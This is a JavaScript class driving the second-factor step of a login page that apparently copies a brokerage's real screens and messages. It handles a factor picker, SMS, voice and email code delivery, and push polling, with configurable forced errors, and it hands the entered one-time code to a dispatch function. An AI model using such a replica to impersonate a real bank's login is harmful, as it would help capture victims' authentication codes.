// The second factors of the page before: one template for every kind of code, moved to where it is wanted.
const LABELS_BEFORE = { "3": "Security Code Card", "4": "Mobile Authenticator App", "4.2": "SMS", "5.1": "Digital Security Card+", "5.2a": "IB Key", "6": "Temporary Security Code" };

class FactorsBefore {
  constructor(form) {
    Object.assign(this, { form, isAsking: false, round: 0 });
    byId("sf_select").addEventListener("change", (event) => event.target.value && this.choose(event.target.value));
    for (const way of ["sms", "voice", "email"]) {
      document.querySelector(".otp-select-" + way).addEventListener("click", () => this.deliver(way === "sms" ? "text" : way));
    }
    document.querySelector(".otp-opener-text a").addEventListener("click", (event) => { event.preventDefault(); shown(byId("otp-delivery")); });
    window.resendNotification = async () => { await this.ask(); this.awaitPush(); };
  }

  begin(factors, m1) {
    this.m1 = m1;
    shown(document.querySelector("#twofactauth > .form-group"), false);
    if (factors.length === 1) return this.choose(factors[0]);
    const options = [["", "Select Type"], ...factors.map((factor) => [factor, LABELS_BEFORE[factor] || factor])];
    byId("sf_select").replaceChildren(...options.map(([value, label]) => new Option(label, value)));
    shown(byId("sf_select"));
  }

  ask(fields = {}) {
    return this.form.wire.ask("COMPLETEAUTH_1", { M1: this.m1, VERSION: 1, SF: this.factor, ...fields });
  }

  async choose(factor) {
    this.factor = factor;
    if (factor === "4.2" && this.form.moods.otp_selector) return shown(byId("otp-delivery"));
    this.start(await this.ask());
  }

  async deliver(way) {
    shown(byId("otp-delivery"), false);
    this.start(await this.ask({ DELIVERY: way }));
  }

  start({ error, type, challenge }) {
    if (error) return this.form.fail(error);
    if (this.form.moods.factor_error) this.form.fail(this.form.moods.factor_error);
    if (type === "PUSH") {
      shown(document.querySelector(".login-step-notification"));
      if (challenge) setTimeout(() => this.showCode("SWCR", challenge), this.form.moods.challenge_after_ms);
      return this.awaitPush();
    }
    this.showCode(this.factor === "3" ? "Bingo" : type, challenge);
  }

  showCode(type, challenge) {
    this.isAsking = true;
    byId("twofactauth").prepend(byId("twofactbase"));
    document.querySelectorAll("[id^=chlgdescr], [id^=chlgtext]").forEach((part) => shown(part, part.id.endsWith("_" + type)));
    byId("chlgtext").textContent = challenge || (type === "Bingo" ? "17 204" : "");
    shown(byId("chlgtext"), byId("chlgtext").textContent !== "");
    shown(document.querySelector(".otp-opener-text"), this.factor === "4.2");
    byId("chlginput").focus();
  }

  async sendCode() {
    const code = byId("chlginput").value.trim();
    const answer = await this.form.wire.ask("COMPLETETWOFACT", { RESPONSE: code, VERSION: 1, SF: this.factor });
    if (answer.auth_res === "true") return this.form.dispatch(code);
    byId("chlginput").value = "";
    this.form.fail(answer.error || "Authentication failed");
  }

  awaitPush() {
    const round = this.round += 1;
    const wait = async (counter) => {
      const answer = await this.form.wire.ask("COMPLETETWOFACT", { PUSH: true, counter, VERSION: 1, SF: this.factor });
      if (round !== this.round) return;
      if (answer.auth_res === "true") return this.form.dispatch("");
      if (answer.error) return this.form.fail(answer.error);
      setTimeout(() => round === this.round && wait(counter + 1), this.form.moods.push_poll_ms);
    };
    wait(1);
  }
}
